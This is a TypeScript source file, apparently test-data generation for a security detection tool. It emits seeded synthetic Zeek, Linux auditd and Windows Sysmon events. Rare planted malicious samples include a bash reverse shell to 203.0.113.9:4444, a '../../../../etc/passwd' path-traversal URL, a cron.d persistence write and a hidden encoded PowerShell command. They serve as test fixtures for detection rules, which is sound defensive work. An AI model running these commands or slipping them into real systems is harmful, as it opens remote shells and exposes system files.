import { newEvent, type EventOf, type KindId, type VakthundEvent } from '../../src/events/event.ts';
import { createDraw, tails, type Draw } from './draw.ts';

/** How many of a thousand events are of each sort: a network sensor, Linux hosts that audit, Windows hosts with Sysmon. */
const shares: readonly (readonly [perMille: number, make: (draw: Draw) => VakthundEvent])[] = [
  [250, flow],
  [200, dns],
  [100, http],
  [100, tls],
  [100, linuxProcess],
  [60, linuxFile],
  [40, linuxLog],
  [50, windowsProcess],
  [60, windowsRegistry],
  [40, windowsSocket],
];
const sorts = shares.flatMap(([perMille, make]) => Array.from({ length: perMille }, () => make));

/** One event in so many is what some rule is for. */
const oneIsOdd = 2000;

/** Events of a day, always the same for the same count and seed. */
export function* storedEvents(count: number, seed: number): Generator<VakthundEvent> {
  const draw = createDraw(count, seed);
  for (let index = 0; index < count; index++) {
    draw.next(index);
    const event = sorts[draw.below(sorts.length)]?.(draw) ?? flow(draw);
    event.time = Math.round(Number(draw.seconds) * 1e6);
    yield Object.assign(event, { evidence_at: index });
  }
}

function of<K extends KindId>(kind: K, fields: Partial<EventOf<K>>): VakthundEvent {
  return Object.assign(newEvent(kind), fields) as unknown as VakthundEvent;
}

function pick<T>(list: readonly [T, ...T[]], draw: Draw): T {
  return list[draw.skewed(list.length)] ?? list[0];
}

function tail(draw: Draw): string {
  return tails[draw.below(tails.length)] ?? '';
}

function ends({ client, clientPort, server, service }: Draw): object {
  return { source_ip: client, source_port: clientPort, destination_ip: server, destination_port: service.port };
}

function flow(draw: Draw): VakthundEvent {
  const bytes = { source_bytes: draw.skewed(90_000), destination_bytes: draw.skewed(900_000) };
  return of('flow', { event_dataset: 'zeek.conn', ...ends(draw), network_transport: draw.service.proto, ...bytes });
}

function dns(draw: Draw): VakthundEvent {
  return of('dns', {
    event_dataset: 'zeek.dns',
    ...ends(draw),
    dns_question_name: `${tail(draw)}.${draw.serverName}`,
    dns_question_type: pick(['A', 'AAAA', 'PTR', 'TXT'], draw),
    dns_response_code: 'NOERROR',
    dns_answers: [draw.server],
  });
}

const agents: readonly [string, ...string[]] = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0',
  'Debian APT-HTTP/1.3 (2.6.1)',
  'Microsoft-CryptoAPI/10.0',
  'python-requests/2.31.0',
];

function http(draw: Draw): VakthundEvent {
  const path = `/static/${tail(draw)}/${tail(draw)}.js?v=${draw.below(9000)}`;
  const isOdd = draw.below(oneIsOdd) === 0;
  return of('http', {
    event_dataset: 'zeek.http',
    ...ends(draw),
    http_request_method: pick(['GET', 'POST', 'HEAD'], draw),
    http_host: draw.serverName,
    url_original: isOdd ? `${path}&x=../../../../etc/passwd` : path,
    user_agent_original: pick(agents, draw),
    http_response_status_code: 200,
  });
}

function tls(draw: Draw): VakthundEvent {
  const names = { tls_client_server_name: draw.serverName, tls_version: 'TLSv12' };
  return of('tls', { event_dataset: 'zeek.ssl', ...ends(draw), ...names });
}

const linuxPrograms: readonly [string, ...string[]] = [
  '/usr/bin/grep',
  '/usr/bin/sed',
  '/usr/bin/cat',
  '/usr/bin/ls',
  '/bin/sh',
  '/usr/bin/python3',
  '/usr/bin/git',
  '/usr/sbin/cron',
  '/usr/bin/date',
  '/usr/bin/find',
  '/usr/bin/curl',
  '/usr/lib/systemd/systemd',
  '/usr/bin/dpkg',
];

/** Columns that all kinds with an actor have. */
function linuxActor(draw: Draw) {
  const program = pick(linuxPrograms, draw);
  const args = ['--file', `/srv/app/${tail(draw)}/${tail(draw)}.conf`, '-n', String(draw.below(500))];
  return {
    event_dataset: 'auditd.syscall',
    host_name: `web${draw.below(40)}`,
    process_pid: draw.below(60_000),
    process_executable: program,
    process_name: program.slice(program.lastIndexOf('/') + 1),
    process_command_line: [program, ...args].join(' '),
    user_name: pick(['root', 'www-data', 'deploy'], draw),
    fields: `{"syscall":"execve","success":"yes","exit":"0","ses":"${draw.below(900)}","key":"exec"}`,
  };
}

function linuxProcess(draw: Draw): VakthundEvent {
  const actor = { ...linuxActor(draw), process_parent_executable: '/bin/sh', event_action: 'exec' };
  if (draw.below(oneIsOdd) > 0) return of('process', actor);
  return of('process', { ...actor, process_command_line: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' });
}

function linuxFile(draw: Draw): VakthundEvent {
  const path = draw.below(oneIsOdd) === 0 ? '/etc/cron.d/upd' : `/var/lib/app/${tail(draw)}/${tail(draw)}.tmp`;
  return of('file_access', { ...linuxActor(draw), event_action: 'write', file_path: path });
}

function linuxLog(draw: Draw): VakthundEvent {
  const message = `Accepted publickey for deploy from ${draw.client} port ${draw.clientPort} ssh2: ED25519 SHA256:${tail(draw)}${tail(draw)}`;
  return of('log', { event_dataset: 'syslog', host_name: `web${draw.below(40)}`, process_name: 'sshd', message });
}

const windowsPrograms: readonly [string, ...string[]] = [
  String.raw`C:\Windows\System32\svchost.exe`,
  String.raw`C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`,
  String.raw`C:\Windows\System32\conhost.exe`,
  String.raw`C:\Windows\System32\backgroundTaskHost.exe`,
  String.raw`C:\Windows\System32\RuntimeBroker.exe`,
  String.raw`C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`,
  String.raw`C:\Windows\System32\wbem\WmiPrvSE.exe`,
  String.raw`C:\Windows\System32\cmd.exe`,
  String.raw`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
];

function guid(draw: Draw): string {
  const hex = (): string => draw.below(65_536).toString(16).padStart(4, '0').toUpperCase();
  return `{${hex()}${hex()}-${hex()}-${hex()}-${hex()}-${hex()}${hex()}${hex()}}`;
}

function sysmon(
  draw: Draw,
  id: number,
  own: Readonly<Record<string, unknown>>,
): { event_dataset: string; fields: string } {
  const record = {
    Provider_Name: 'Microsoft-Windows-Sysmon',
    Provider_Guid: '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}',
    EventID: id,
    Version: 5,
    Level: 4,
    Task: id,
    Keywords: '0x8000000000000000',
    EventRecordID: draw.index,
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Computer: `PC-${draw.below(900)}.corp.example`,
    Security_UserID: 'S-1-5-18',
    RuleName: '-',
    UtcTime: draw.seconds,
    ProcessGuid: guid(draw),
    ProcessId: draw.below(60_000),
    Image: pick(windowsPrograms, draw),
    User: `CORP\\u${draw.below(900)}`,
    ...own,
  };
  return { event_dataset: 'windows.sysmon', fields: JSON.stringify(record) };
}

function windowsProcess(draw: Draw): VakthundEvent {
  const image = pick(windowsPrograms, draw);
  const usual = `"${image}" --type=renderer --lang=en-US --id=${tail(draw)} --handle=${draw.below(9000)} /prefetch:${draw.below(9)}`;
  const isOdd = draw.below(oneIsOdd) === 0;
  const hashes = `SHA256=${guid(draw).replaceAll(/[{}-]/g, '').repeat(2)},IMPHASH=${guid(draw).replaceAll(/[{}-]/g, '')}`;
  const record = sysmon(draw, 1, {
    Image: image,
    FileVersion: '10.0.19041.546 (WinBuild.160101.0800)',
    Description: 'Host Process for Windows Services',
    Product: 'Microsoft® Windows® Operating System',
    Company: 'Microsoft Corporation',
    OriginalFileName: image.slice(image.lastIndexOf('\\') + 1),
    CommandLine: isOdd ? 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA' : usual,
    CurrentDirectory: 'C:\\Windows\\system32\\',
    LogonGuid: guid(draw),
    LogonId: `0x${draw.below(900_000).toString(16)}`,
    TerminalSessionId: 1,
    IntegrityLevel: 'Medium',
    Hashes: hashes,
    ParentProcessGuid: guid(draw),
    ParentProcessId: draw.below(60_000),
    ParentImage: pick(windowsPrograms, draw),
    ParentCommandLine: `C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s ${tail(draw)}`,
    ParentUser: 'NT AUTHORITY\\SYSTEM',
  });
  return of('process', { ...record, event_action: 'exec', process_executable: image });
}

function windowsRegistry(draw: Draw): VakthundEvent {
  const path = String.raw`HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\S-1-5-21-${draw.below(90_000)}\${tail(draw)}`;
  const record = sysmon(draw, 13, {
    EventType: 'SetValue',
    TargetObject: path,
    Details: `DWORD (0x0000${draw.below(9)})`,
  });
  return of('registry', { ...record, registry_path: path });
}

function windowsSocket(draw: Draw): VakthundEvent {
  const record = sysmon(draw, 3, {
    Protocol: 'tcp',
    Initiated: 'true',
    SourceIp: draw.client,
    SourcePort: draw.clientPort,
    DestinationIp: draw.server,
    DestinationHostname: draw.serverName,
    DestinationPort: draw.service.port,
  });
  return of('socket', { ...record, ...ends(draw), event_action: 'connect' });
}
